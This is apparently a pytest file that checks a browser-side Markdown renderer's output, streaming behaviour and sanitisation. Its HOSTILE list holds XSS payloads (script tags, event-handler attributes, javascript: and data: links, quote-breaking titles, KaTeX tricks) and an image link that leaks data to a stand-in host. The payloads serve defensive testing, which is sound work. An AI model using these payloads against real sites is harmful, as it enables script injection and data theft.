"""The page's Markdown in a browser: what becomes of a text, and that nothing in it becomes more than text."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from server.web import chromium
from server.web.drawn_markdown import DRAW
from server.web.opened_page import in_page

pytestmark = pytest.mark.skipif(chromium.PROGRAM is None, reason="needs Chromium: apt-get install chromium")

MARKDOWN = """# Title *with* `code`

A paragraph with **bold _nested_**, ~~gone~~ and https://example.org/a_b. And [a link](https://example.org "t").

- one
- two
  continued
  1. nested
  2. list

3) starts at three
4) four

> quoted
> more

```python
def f(x):
    return "**not bold** <b>"

```

| a | b |
|---|---|
| 1 | `x` |

---
snake_case_name stays, 2 * 3 * 4 too. \\*literal\\*
"""
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/leak?data)",
    "[x]( javascript:alert(1))",
    "<https://evil.example onclick=alert(1)>",
    '[x](https://e.example" onclick="alert(1))',
    "```<img src=x>\n<script>\n```",
    "| <b>a</b> |\n|---|\n| <svg onload=x> |",
    '```html\n<img src="x" onerror="alert(1)">\n```',
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlStyle{color:red}{x}$",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    '[x](https://e.example "t\\" onmouseover=alert(1)")',
]
ALLOWED = {
    *("DIV", "P", "H2", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "PRE", "CODE", "BLOCKQUOTE", "HR", "STRONG", "EM"),
    *("svg", "use", "S", "A", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN", "BUTTON", "BR"),
}


def text_of(tree: Any) -> str:
    return tree if isinstance(tree, str) else "".join(map(text_of, tree[2:]))


async def test_markdown_becomes_nodes(devtools: str, tmp_path: Path) -> None:
    tree = await in_page(devtools, tmp_path, DRAW + "return shown(whole(args[0]));", MARKDOWN)
    blocks = tree[2:]
    expected = ["H2", "P", "UL", "OL", "BLOCKQUOTE", "DIV", "DIV", "HR", "P"]
    assert [block[0] for block in blocks] == expected
    assert text_of(blocks[5][3]) == 'def f(x):\n    return "**not bold** <b>"\n'
    assert text_of(blocks[5][2]) == "pythonCopy code"
    assert '["SPAN", {"class": "hljs-keyword"}, "def"]' in json.dumps(blocks[5])
    assert blocks[3][1]["start"] == "3"
    assert blocks[2][-1][-1][0] == "OL", "a list within a list"
    assert ["STRONG", {}, "bold ", ["EM", {}, "nested"]] in blocks[1]
    assert text_of(blocks[8]) == "snake_case_name stays, 2 * 3 * 4 too. *literal*"
    assert set(re.findall(r'\["([A-Z0-9]+)"', json.dumps(tree))) <= ALLOWED


async def test_J123_nothing_a_model_writes_becomes_markup(devtools: str, tmp_path: Path) -> None:
    script = """
    document.body.append(...args[0].map(whole));
    if (args[0].some((text) => text.includes("$"))) {
      await new Promise((resolve) => new MutationObserver(() => document.querySelector("math") && resolve())
        .observe(document, { subtree: true, childList: true }));
    }
    const attributes = (node) => Object.fromEntries([...node.attributes].map(({ name, value }) => [name, value]));
    return [...document.querySelectorAll("body > div:not([id]) *")]
      .map((node) => [node.tagName, node.namespaceURI, attributes(node)]);
    """
    for tag, space, attributes in await in_page(devtools, tmp_path, DRAW + script, HOSTILE):
        assert not {name for name in attributes if name.startswith("on") or name in {"src", "style"}}
        if space.endswith(("MathML", "svg")):
            continue
        assert re.match(r"https?://|mailto:", attributes.get("href", "https://"))
        assert tag in ALLOWED
        assert set(attributes) <= {
            *("href", "rel", "target", "class", "start", "tabindex", "role", "aria-label", "type", "dir", "title"),
            *("data-display", "data-language"),
        }


GROWING = (
    MARKDOWN
    + """
Rivers:

| River | Length | Note |
|:------|-------:|:----:|
| Rhine | 1,233 | a \\| b |
| Danube | 2,850 |
| Po | 652 | **c** | |

- [ ] to do
- [x] done, with

  ```sh
  echo "$HOME"  # says where
  ```
- plain
lazy end

> - quoted list
>   with more
> > deeper

\\[
\\int_0^1 x_1 * y_1 \\, dx
\\]

Costs $5 or $6, but $a_1 * b_1$ and \\(x_2\\) are formulas. ![a river](https://example.org/r.png)

~~~
open fence `
"""
)


async def test_a_text_that_grows_looks_at_each_moment_as_if_it_had_come_at_once(devtools: str, tmp_path: Path) -> None:
    script = """
    const long = "a *long* paragraph of `words` ".repeat(500) + "\\n- " + "an item ".repeat(1000)
      + "\\n" + "x".repeat(13000);
    const head = "| a | b |\\n|--|--:|\\n";
    const rows = head + "| **one**\\n| two | `2` | 3 |\\n".repeat(70) + "x | \\n\\\\| y | z\\n".repeat(70);
    const tables = "some words\\n" + rows + "> a quote\\n\\n" + rows;
    const later = "- [named]\\n\\n- [named] again\\n\\n  [named]: https://example.org\\n- [named] again";
    const returns = "one\\rtwo\\r\\n\\r\\n- three\\r- four\\r\\rfive\\r\\nsix";
    // Each block by itself, letter by letter; all of them in a row, and what is long, in larger pieces.
    const letters = [...args[0].split("\\n\\n"), later, returns].map((block) => [block, 1]);
    const texts = [...letters, [args[0], 7], [long, 701], [tables, 1499], [rows.replaceAll("\\n", "\\r"), 1499]];
    const plain = (node) => node.innerHTML.replaceAll(/<math.*?<\\/math>|<span class="katex">|typeset/gs, "");
    for (const [text, size] of texts) {
      const growing = new GrowingMarkdown(document.createElement("div"));
      for (let end = 0; end < text.length; end += size) {
        growing.add(text.slice(end, end + size));
        growing.draw();
        const [one, other] = [plain(growing.target), plain(grown(text.slice(0, end + size)))];
        if (one !== other) return [text.slice(0, end + size), one, other];
      }
      growing.draw({ isWhole: true });
      const [one, other] = [plain(growing.target), plain(whole(text))];
      if (one !== other) return [text, one, other];
    }
    return [];
    """
    assert await in_page(devtools, tmp_path, DRAW + script, GROWING) == []


async def test_no_open_mark_is_seen_while_an_answer_is_written(devtools: str, tmp_path: Path) -> None:
    """Letter by letter: what a person would read as markup and not as text."""
    text = (
        GROWING.replace("2 * 3 * 4 too. \\*literal\\*", "is its name")
        .replace("a \\| b", "a b")
        .replace("$a_1 * b_1", "$a_1 b_1")
    )
    script = """
    const seen = [];
    for (let end = 1; end <= args[0].length; end++) {
      const target = grown(args[0].slice(0, end));
      for (const code of target.querySelectorAll("code, .math")) code.remove();
      const flash = /\\*|_nested|~~|`|\\||^ *#|\\]\\(|!\\[|---|\\[[ x]/m.exec(target.innerText);
      if (flash) seen.push(JSON.stringify([args[0].slice(Math.max(0, end - 20), end), target.innerText.slice(-30)]));
    }
    return seen.join("\\n");
    """
    assert await in_page(devtools, tmp_path, DRAW + script, text) == ""


ENDS = {
    "a **bold": "<strong>bold</strong>",
    "a **bold*": "<strong>bold</strong>",
    "a **bold _both": "<strong>bold <em>both</em></strong>",
    "the `code": "<code>code</code>",
    "~~gone~": "<s>gone</s>",
    "[a **name](https://exa": "<p>a <strong>name</strong></p>",
    "## ": "",
    "| a | b |": '<th scope="col">a</th>',
    "| a | b |\n|--|--|\n| **x": "<td><strong>x</strong></td>",
    "2 * 3 and 2*3": "<p>2 * 3 and 2*3</p>",
    "text\n---": "<p>text</p>",
}


async def test_a_stopped_answer_keeps_no_open_marks_and_a_whole_one_its_own(devtools: str, tmp_path: Path) -> None:
    script = "return args[0].map((text) => [grown(text).innerHTML, whole(text).innerText]);"
    stopped = await in_page(devtools, tmp_path, DRAW + script, [*ENDS, "see the note*"])
    for (text, expected), (html, _) in zip(ENDS.items(), stopped, strict=False):
        assert expected.replace(' scope="col"', "") in html, text
        assert not re.search(r"\*\*|##|\||~~|`|---|\]\(", re.sub("<[^>]*>", "", html)), text
    assert stopped[-1][1] == "see the note*"


LOOKS = {
    "image": "![a river](https://example.org/r.png)",
    "tasks": "- [ ] one\n- [x] two",
    "sides": "| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |",
    "link": "[a `b` **c**](https://example.org) <https://example.org/x> one  \ntwo<br>three",
    "prices": "It costs $5 and $6.",
    "notes": "So it is[^1] and[^b]: always.\n\n[^1]: One.\n[^b]: Two.",
}


async def test_what_models_write_most_is_shown_as_meant(devtools: str, tmp_path: Path) -> None:
    script = """return Object.fromEntries(Object.entries(args[0])
        .map(([name, text]) => [name, shown(whole(text)).slice(2)]));"""
    looks = await in_page(devtools, tmp_path, DRAW + script, LOOKS)
    href = {"href": "https://example.org/r.png", "rel": "noopener noreferrer nofollow", "target": "_blank"}
    address = ["SPAN", {"class": "address"}, "https://example.org/r.png"]
    assert looks["image"] == [["P", {}, ["A", {**href, "class": "image"}, "a river ", address]]]
    assert [item[2][2] for item in looks["tasks"][0][2:]] == ["☐", "☑"]
    assert [item[2][1]["aria-checked"] for item in looks["tasks"][0][2:]] == ["false", "true"]
    head, body = looks["sides"][0][2][2:]
    assert [cell[1].get("class") for cell in head[2][2:]] == [None, "right", "center"]
    assert [cell[1].get("class") for cell in body[2][2:]] == [None, "right", "center"]
    assert looks["sides"][0][1]["role"] == "group"
    (paragraph,) = looks["link"]
    assert [part[0] for part in paragraph[2:] if isinstance(part, list)] == ["A", "A", "BR", "BR"]
    assert [part[0] for part in paragraph[2][2:] if isinstance(part, list)] == ["CODE", "STRONG"]
    assert looks["prices"] == [["P", {}, "It costs $5 and $6."]]
    one, two = (["SPAN", {"class": "footnote"}, mark] for mark in ("1", "b"))
    assert looks["notes"] == [
        ["P", {}, "So it is", one, " and", two, ": always."],
        ["P", {}, one, " One.\n", ["BR", {}], "\n", two, " Two."],
    ]


async def test_formulas_are_typeset_and_load_their_library_then(devtools: str, tmp_path: Path) -> None:
    script = """
    const loaded = () => performance.getEntriesByType("resource").some(({ name }) => name.endsWith("katex.js"));
    document.body.append(whole("No formula, for $5."));
    const before = loaded();
    document.body.append(whole(args[0]));
    const all = () => document.querySelectorAll("math").length === 4;
    await new Promise((resolve) => new MutationObserver(() => all() && resolve())
      .observe(document, { subtree: true, childList: true }));
    const [display, ...rest] = document.querySelectorAll("math");
    return [before, loaded(), display.getAttribute("display"), rest[0].querySelector("msub") !== null];
    """
    text = "$$\na_1^2\n$$\n\nWith \\(x_1\\) and $y$:\n\n\\[ \\frac{a}{b} \\]\n"
    assert await in_page(devtools, tmp_path, DRAW + script, text) == [False, True, "block", True]
